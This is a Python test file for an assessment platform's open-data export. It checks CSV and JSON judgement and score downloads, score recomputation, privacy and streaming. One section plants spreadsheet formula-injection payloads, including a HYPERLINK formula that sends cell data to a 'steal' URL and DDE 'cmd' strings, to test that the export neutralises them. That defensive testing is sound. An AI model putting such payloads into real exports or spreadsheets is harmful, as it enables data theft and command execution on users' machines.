"""The open-data export: what it holds, that scores follow from it alone, and that it streams."""

import csv
import html
import io
import re
from collections import defaultdict
from datetime import date
from decimal import ROUND_HALF_UP, Decimal
from fractions import Fraction

import pytest
from marshmallow import fields
from sqlalchemy import select

from assessor.assessments.answers import save_answer
from assessor.assessments.models import Answer
from assessor.assessments.service import start_assessment
from assessor.assessments.workflow import publish, revise, submit, withdraw
from assessor.opendata.formats import FIELDS, SCORE_FIELDS
from assessor.opendata.schemas import JudgementSchema
from assessor.opendata.service import LICENCE
from config import PROJECT_DIR
from tests.factories import (
    published_assessment,
    shipped_rubric,
    stored_process,
    stored_rubric,
    stored_user,
)
from tests.processes.test_pages import counted_statements
from tests.processes.test_pages import published_assessment as published_sample_assessment

OPEN_DATA_DOC = PROJECT_DIR / "docs" / "open-data.md"
EXAMPLE = re.compile(r"<!-- example:begin -->\s*```python\n(.*?)```\s*<!-- example:end -->", re.S)
RAW_TEXT = re.compile(
    r"<!-- raw-text:begin -->\s*```python\n(.*?)```\s*<!-- raw-text:end -->", re.S
)
# Questions of the shipped rubric that allow "not applicable".
MAY_NOT_APPLY = ("equal_footing.advisory_group_formation", "transparency.decision_records")
EMAILS = ("ana@example.org", "ben@example.org", "rui@example.org", "admin@example.org")


def evidence(key: str, count: int = 1) -> list[dict]:
    return [
        {
            "url": f"https://example.org/{key}/{number}",
            "title": f"Record {number} of {key}",
            "accessed_on": date(2026, 11, 1),
            "note": "",
        }
        for number in range(count)
    ]


def choice(index: int, key: str) -> dict:
    """A varied answer: not applicable where allowed, some insufficient, levels elsewhere."""
    if key in MAY_NOT_APPLY:
        return {"level": None, "not_applicable": True, "evidence": []}
    if index % 7 == 3:
        return {"level": None, "insufficient_information": True, "evidence": []}
    return {"level": (index * 3) % 5, "evidence": evidence(key, 1 + index % 3)}


def save(session, assessor, assessment, key: str, answer: dict) -> None:
    data = {
        "level": None,
        "not_applicable": False,
        "insufficient_information": False,
        "rationale": f"Because of what {key} shows.",
        "change_reason": None,
        "version": None,
        **answer,
    }
    save_answer(session, assessor, assessment, key, data)


def varied_assessment(session, rubric, process, assessor, reviewer, perspective):
    """A published assessment mixing levels, not applicable and insufficient information."""
    assessment = start_assessment(
        session,
        assessor,
        {"process_id": process.id, "rubric": rubric.label, "perspective": perspective},
    )
    questions = [q for pillar in rubric.pillars for q in pillar.questions]
    for index, question in enumerate(questions):
        save(session, assessor, assessment, question.key, choice(index, question.key))
    submit(session, assessor, assessment)
    publish(session, reviewer, assessment)
    session.flush()
    return assessment


def published_revision(session, assessor, reviewer, assessment, key: str):
    """A revision of ``assessment`` raising one answer to level 4, for new evidence."""
    revision = revise(session, assessor, assessment)
    stored = next(answer for answer in revision.answers if answer.question_key == key)
    answer = {"level": 4, "evidence": evidence(key, 2), "change_reason": "new_evidence"}
    save(session, assessor, revision, key, {**answer, "version": stored.row_version})
    submit(session, assessor, revision)
    publish(session, reviewer, revision)
    session.flush()
    return revision


@pytest.fixture
def people(session):
    return {
        "ana": stored_user(session, "ana@example.org", ["assessor"], "civil_society"),
        "ben": stored_user(session, "ben@example.org", ["assessor"], "government"),
        "rui": stored_user(session, "rui@example.org", ["reviewer"], "academia"),
        "admin": stored_user(session, "admin@example.org", ["admin"], None),
    }


@pytest.fixture
def rubric(session):
    return shipped_rubric(session)


def question_count(rubric) -> int:
    return sum(len(pillar.questions) for pillar in rubric.pillars)


@pytest.fixture
def assessments(session, people, rubric):
    """Published (one revised), withdrawn and draft assessments of two processes."""
    bali = stored_process(session)
    wtpf = stored_process(session, name="WTPF-13", convening_organization="ITU", scope="global")
    ana, ben, rui = people["ana"], people["ben"], people["rui"]
    first = varied_assessment(session, rubric, bali, ana, rui, "civil_society")
    made = {
        "first": first,
        "second": published_assessment(session, rubric, bali, ben, rui, perspective="government"),
        "other": varied_assessment(session, rubric, wtpf, ben, rui, "government"),
        "withdrawn": published_assessment(session, rubric, wtpf, ana, rui),
        "revision": published_revision(session, ana, rui, first, "openness.open_participation"),
        "draft": start_assessment(
            session, ana, {"process_id": bali.id, "rubric": rubric.label, "perspective": None}
        ),
    }
    withdraw(session, people["admin"], made["withdrawn"], "The evidence was not public.")
    session.commit()
    return {name: assessment.id for name, assessment in made.items()}


def csv_rows(client) -> list[dict]:
    response = client.get("/data/judgements.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def by_assessment(rows: list[dict]) -> dict[int, list[dict]]:
    grouped = defaultdict(list)
    for row in rows:
        grouped[int(row["assessment_id"])].append(row)
    return grouped


# An independent reading of docs/methodology.md, section 3, over the export's rows alone.


def mean(pairs: list[tuple[Fraction, Fraction | None]]) -> Fraction | None:
    counted = [(weight, value) for weight, value in pairs if value is not None]
    total = sum(weight for weight, _ in counted)
    return sum(weight * value for weight, value in counted) / total if counted else None


def question_value(row: dict) -> Fraction | None:
    if row["answer"] == "not_applicable":
        return None
    return Fraction(int(row["level"] or 0) * 25)


def recomputed(rows: list[dict]) -> tuple[Fraction | None, dict[str, Fraction | None]]:
    """An assessment's overall and pillar scores from its exported rows."""
    pillars: dict[str, list] = defaultdict(list)
    pillar_weight = {}
    for row in rows:
        pillars[row["pillar_key"]].append((Fraction(row["question_weight"]), question_value(row)))
        pillar_weight[row["pillar_key"]] = Fraction(row["pillar_weight"])
    scores = {key: mean(pairs) for key, pairs in pillars.items()}
    overall = mean([(pillar_weight[key], score) for key, score in scores.items()])
    return overall, scores


def api_rounding(value: Fraction | None) -> float | None:
    if value is None:
        return None
    exact = Decimal(value.numerator) / Decimal(value.denominator)
    return float(exact.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP))


PUBLIC = ("first", "second", "other", "withdrawn", "revision")


def test_every_public_assessment_has_one_row_per_question(client, rubric, assessments):
    grouped = by_assessment(csv_rows(client))
    assert set(grouped) == {assessments[name] for name in PUBLIC}
    assert {len(rows) for rows in grouped.values()} == {question_count(rubric)}


def test_drafts_are_not_exported(client, assessments):
    assert assessments["draft"] not in by_assessment(csv_rows(client))


def test_every_published_score_is_recomputed_from_the_csv_alone(client, assessments):
    grouped = by_assessment(csv_rows(client))
    for assessment_id, rows in grouped.items():
        card = client.get(f"/api/v1/assessments/{assessment_id}/scorecard").get_json()
        overall, pillars = recomputed(rows)
        assert api_rounding(overall) == card["score"]
        assert {key: api_rounding(score) for key, score in pillars.items()} == {
            pillar["key"]: pillar["score"] for pillar in card["pillars"]
        }


def test_the_export_holds_every_kind_of_answer(client, assessments):
    rows = by_assessment(csv_rows(client))[assessments["first"]]
    kinds = {row["answer"] for row in rows}
    assert kinds == {"level", "not_applicable", "insufficient_information"}
    assert {row["level"] for row in rows if row["answer"] != "level"} == {""}


def test_withdrawn_assessments_are_marked_with_their_reason(client, assessments):
    rows = by_assessment(csv_rows(client))[assessments["withdrawn"]]
    assert {row["status"] for row in rows} == {"withdrawn"}
    assert {row["withdrawal_reason"] for row in rows} == {"The evidence was not public."}
    assert all(row["withdrawn_at"] for row in rows)


def test_a_revision_names_what_it_revises_and_why_answers_changed(client, assessments):
    rows = by_assessment(csv_rows(client))[assessments["revision"]]
    assert {row["revises_id"] for row in rows} == {str(assessments["first"])}
    changed = [row for row in rows if row["change_reason"]]
    assert [(row["question_key"], row["change_reason"], row["level"]) for row in changed] == [
        ("openness.open_participation", "new_evidence", "4")
    ]


def test_rows_describe_the_process_rubric_and_assessor(client, assessments):
    row = by_assessment(csv_rows(client))[assessments["second"]][0]
    assert row["process_name"] == "IGF 2013 Workshop #41"
    assert (row["scope"], row["layer"]) == ("global", "of_the_internet")
    assert row["rubric"] == "wsis10-multistakeholder@1.0.0" and row["method_version"] == "2"
    assert (row["perspective"], row["assessor_display_name"]) == ("government", "Ben")
    assert row["scorecard"] == f"http://localhost/assessments/{assessments['second']}/scorecard"
    assert row["published_at"].endswith("+00:00")


def test_evidence_urls_are_listed_in_the_assessors_order(client, rubric, assessments):
    rows = by_assessment(csv_rows(client))[assessments["first"]]
    questions = [q.key for pillar in rubric.pillars for q in pillar.questions]
    given = [
        [item["url"] for item in choice(i, key)["evidence"]] for i, key in enumerate(questions)
    ]
    assert [row["evidence_urls"] for row in rows] == [" ".join(urls) for urls in given]
    assert max(len(urls) for urls in given) == 3


def test_each_rationale_carries_the_language_it_was_written_in(client, session, assessments):
    answer = session.scalars(
        select(Answer).where(
            Answer.assessment_id == assessments["second"],
            Answer.question_key == "openness.open_participation",
        )
    ).one()
    answer.rationale, answer.rationale_language = "Parce que les réunions sont ouvertes.", "fr"
    session.commit()
    rows = {
        row["question_key"]: row for row in by_assessment(csv_rows(client))[assessments["second"]]
    }
    french = rows["openness.open_participation"]
    assert (french["rationale"], french["rationale_language"]) == (
        "Parce que les réunions sont ouvertes.",
        "fr",
    )
    judgements = client.get("/data/judgements.json").get_json()["judgements"]
    exported = next(
        judgement
        for judgement in judgements
        if judgement["assessment_id"] == assessments["second"]
        and judgement["question_key"] == "openness.open_participation"
    )
    assert exported["rationale_language"] == "fr"


def test_json_holds_the_same_judgements_as_the_csv(client, assessments):
    document = client.get("/data/judgements.json").get_json()
    assert document["method_version"] == "2" and document["licence"] == LICENCE
    rows = csv_rows(client)
    assert [list(judgement) for judgement in document["judgements"]] == [list(FIELDS)] * len(rows)
    for judgement, row in zip(document["judgements"], rows, strict=True):
        assert " ".join(judgement["evidence_urls"]) == row["evidence_urls"]
        assert (judgement["assessment_id"], judgement["question_key"]) == (
            int(row["assessment_id"]),
            row["question_key"],
        )


@pytest.mark.parametrize("path", ["/data/judgements.csv", "/data/judgements.json"])
def test_no_email_or_account_detail_is_exported(client, assessments, path):
    body = client.get(path).get_data(as_text=True)
    assert not any(email in body for email in EMAILS)
    assert not {"email", "assessor_id", "published_by_id", "password_hash"} & set(FIELDS)


@pytest.mark.parametrize(
    ("path", "mimetype"),
    [("/data/judgements.csv", "text/csv"), ("/data/judgements.json", "application/json")],
)
def test_downloads_are_streamed_attachments(client, assessments, path, mimetype):
    response = client.get(path)
    assert response.is_streamed
    assert response.mimetype == mimetype
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")


def test_an_empty_export_is_still_valid(client, session):
    assert client.get("/data/judgements.json").get_json()["judgements"] == []
    assert client.get("/data/judgements.csv").get_data(as_text=True).strip() == ",".join(FIELDS)


def statements_for_downloads(app, client) -> int:
    with app.app_context(), counted_statements() as statements:
        for path in ("/data/judgements.csv", "/data/judgements.json"):
            client.get(path).get_data()
    return len(statements)


def test_statements_do_not_grow_with_the_number_of_assessments(app, client, session, people):
    stored_rubric(session)
    process = stored_process(session)
    for _ in range(2):
        published_sample_assessment(session, process, people["ana"], people["rui"])
    few = statements_for_downloads(app, client)
    for _ in range(10):
        published_sample_assessment(session, process, people["ana"], people["rui"])
    assert len(csv_rows(client)) == 12 * 4
    assert statements_for_downloads(app, client) == few


def test_the_page_documents_every_field_and_counts_the_rows(client, rubric, assessments):
    page = client.get("/data").get_data(as_text=True)
    assert all(f"<code>{field}</code>" in page for field in FIELDS)
    assert f"<strong>{len(PUBLIC) * question_count(rubric)}</strong> judgements" in page
    assert "<strong>4</strong> published and <strong>1</strong> withdrawn" in page
    assert 'href="/data/judgements.csv"' in page and 'href="/data/judgements.json"' in page


def test_the_documentation_states_the_licence_the_json_carries(client, session):
    page = " ".join(client.get("/data").get_data(as_text=True).split())
    assert LICENCE in html.unescape(page)


def test_the_documented_example_recomputes_the_scorecards(client, assessments):
    namespace: dict = {}
    exec(EXAMPLE.search(OPEN_DATA_DOC.read_text(encoding="utf-8"))[1], namespace)
    results = namespace["scores"](csv_rows(client))
    for assessment_id, result in results.items():
        card = client.get(f"/api/v1/assessments/{assessment_id}/scorecard").get_json()
        assert float(namespace["two_decimals"](result["score"])) == card["score"]


# Text that a spreadsheet would run as a formula

# What spreadsheets run as a formula when a cell starts with it (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("https://example.org/steal?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "A plain rationale.",
)
TEXT_COLUMNS = tuple(
    name for name, field in JudgementSchema().fields.items() if not isinstance(field, fields.Number)
)


@pytest.fixture
def hostile(session, people, rubric):
    """A published and a withdrawn assessment whose every text typed by someone is hostile."""
    process = stored_process(session, name=HOSTILE[0], convening_organization=HOSTILE[1])
    people["ana"].display_name = HOSTILE[3]
    assessment = start_assessment(
        session, people["ana"], {"process_id": process.id, "rubric": rubric.label}
    )
    questions = [q.key for pillar in rubric.pillars for q in pillar.questions]
    for index, key in enumerate(questions):
        answer = {"level": 2, "evidence": evidence(key), "rationale": HOSTILE[index % len(HOSTILE)]}
        save(session, people["ana"], assessment, key, answer)
    submit(session, people["ana"], assessment)
    publish(session, people["rui"], assessment)
    withdrawn = published_assessment(session, rubric, process, people["ben"], people["rui"])
    withdraw(session, people["admin"], withdrawn, HOSTILE[2])
    session.commit()
    return {"published": assessment.id, "withdrawn": withdrawn.id}


def test_no_text_cell_of_the_csv_starts_a_formula(client, hostile):
    rows = csv_rows(client)
    assert len(by_assessment(rows)) == 2
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])


def test_hostile_text_is_written_behind_one_quote(client, hostile):
    grouped = by_assessment(csv_rows(client))
    published, withdrawn = grouped[hostile["published"]], grouped[hostile["withdrawn"]]
    assert {row["process_name"] for row in published} == {"'" + HOSTILE[0]}
    assert {row["convening_organization"] for row in published} == {"'" + HOSTILE[1]}
    assert {row["assessor_display_name"] for row in published} == {"'" + HOSTILE[3]}
    assert {row["withdrawal_reason"] for row in withdrawn} == {"'" + HOSTILE[2]}
    rationales = {row["rationale"] for row in published}
    assert rationales == {"'" + text for text in HOSTILE[:-1]} | {HOSTILE[-1]}


def test_the_documented_rule_gives_back_every_text_the_json_holds(client, hostile):
    namespace: dict = {}
    exec(RAW_TEXT.search(OPEN_DATA_DOC.read_text(encoding="utf-8"))[1], namespace)
    judgements = client.get("/data/judgements.json").get_json()["judgements"]
    rows = csv_rows(client)
    assert len(rows) == len(judgements)
    for row, judgement in zip(rows, judgements, strict=True):
        for column in TEXT_COLUMNS:
            value = judgement[column]
            typed = " ".join(value) if isinstance(value, list) else value or ""
            assert namespace["raw_text"](row[column]) == typed, column


def test_numbers_stay_numbers_beside_hostile_text(client, hostile):
    for row in csv_rows(client):
        assert int(row["assessment_id"]) in hostile.values()
        assert float(row["pillar_weight"]) > 0 and float(row["question_weight"]) > 0
        assert 0 <= int(row["level"]) <= 4


def test_scores_are_recomputed_from_a_csv_holding_hostile_text(client, hostile):
    for assessment_id, rows in by_assessment(csv_rows(client)).items():
        card = client.get(f"/api/v1/assessments/{assessment_id}/scorecard").get_json()
        assert api_rounding(recomputed(rows)[0]) == card["score"]


# Scores


def score_rows(client) -> list[dict]:
    response = client.get("/data/scores.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def number(cell: str) -> float | None:
    return float(cell) if cell else None


def test_scores_give_each_public_result_with_its_range_as_the_scorecard(client, assessments):
    grouped = by_assessment(score_rows(client))
    assert set(grouped) == {assessments[name] for name in PUBLIC}
    for assessment_id, rows in grouped.items():
        card = client.get(f"/api/v1/assessments/{assessment_id}/scorecard").get_json()
        overall, *pillars = rows
        assert (overall["result"], overall["pillar_key"], overall["method_version"]) == (
            "overall",
            "",
            "2",
        )
        assert number(overall["score"]) == number(overall["score_range_low"]) == card["score"]
        assert overall["band"] == card["band"]
        assert [row["pillar_key"] for row in pillars] == [p["key"] for p in card["pillars"]]
        for row, pillar in zip(pillars, card["pillars"], strict=True):
            assert number(row["score_range_low"]) == pillar["score"]
            assert number(row["score_range_low"]) <= number(row["score_range_high"])


def test_unknowns_open_the_range_and_lower_the_coverage(client, assessments):
    varied = by_assessment(score_rows(client))[assessments["other"]][0]
    judgements = by_assessment(csv_rows(client))[assessments["other"]]
    assert "insufficient_information" in {row["answer"] for row in judgements}
    assert number(varied["score_range_high"]) > number(varied["score_range_low"])
    assert 0 < number(varied["information_coverage"]) < 100
    uniform = by_assessment(score_rows(client))[assessments["second"]][0]
    assert uniform["score_range_low"] == uniform["score_range_high"]
    assert number(uniform["information_coverage"]) == 100


def test_the_range_is_recomputed_from_the_judgements(client, assessments):
    """Section 8: the high end counts an unknown as 100, the coverage counts levels as 100."""
    judged = by_assessment(csv_rows(client))[assessments["first"]]
    pillars: dict[str, list] = defaultdict(list)
    weights = {}
    for row in judged:
        weight = Fraction(row["question_weight"])
        unknown = row["answer"] == "insufficient_information"
        high = Fraction(100) if unknown else question_value(row)
        at_level = None if row["answer"] == "not_applicable" else Fraction(0 if unknown else 100)
        pillars[row["pillar_key"]].append((weight, high, at_level))
        weights[row["pillar_key"]] = Fraction(row["pillar_weight"])
    high = {key: mean([(w, h) for w, h, _ in pairs]) for key, pairs in pillars.items()}
    coverage = {key: mean([(w, c) for w, _, c in pairs]) for key, pairs in pillars.items()}
    overall = by_assessment(score_rows(client))[assessments["first"]][0]
    expected_high = mean([(weights[key], value) for key, value in high.items()])
    expected_coverage = mean([(weights[key], value) for key, value in coverage.items()])
    assert number(overall["score_range_high"]) == api_rounding(expected_high)
    assert number(overall["information_coverage"]) == api_rounding(expected_coverage)


def test_scores_json_holds_the_same_rows_as_the_csv(client, assessments):
    document = client.get("/data/scores.json").get_json()
    assert document["method_version"] == "2" and document["licence"] == LICENCE
    rows = score_rows(client)
    assert [list(score) for score in document["scores"]] == [list(SCORE_FIELDS)] * len(rows)
    for score, row in zip(document["scores"], rows, strict=True):
        assert (score["assessment_id"], score["pillar_key"] or "") == (
            int(row["assessment_id"]),
            row["pillar_key"],
        )
        assert score["score_range_high"] == number(row["score_range_high"])


def test_the_page_documents_every_score_field_and_links_the_downloads(client, session):
    page = client.get("/data").get_data(as_text=True)
    assert all(f"<code>{field}</code>" in page for field in SCORE_FIELDS)
    assert 'href="/data/scores.csv"' in page and 'href="/data/scores.json"' in page


def test_score_statements_do_not_grow_with_the_number_of_assessments(app, client, session, people):
    stored_rubric(session)
    process = stored_process(session)
    published_sample_assessment(session, process, people["ana"], people["rui"])

    def statements() -> int:
        with app.app_context(), counted_statements() as sent:
            for path in ("/data/scores.csv", "/data/scores.json"):
                client.get(path).get_data()
        return len(sent)

    few = statements()
    for _ in range(10):
        published_sample_assessment(session, process, people["ana"], people["rui"])
    assert statements() == few
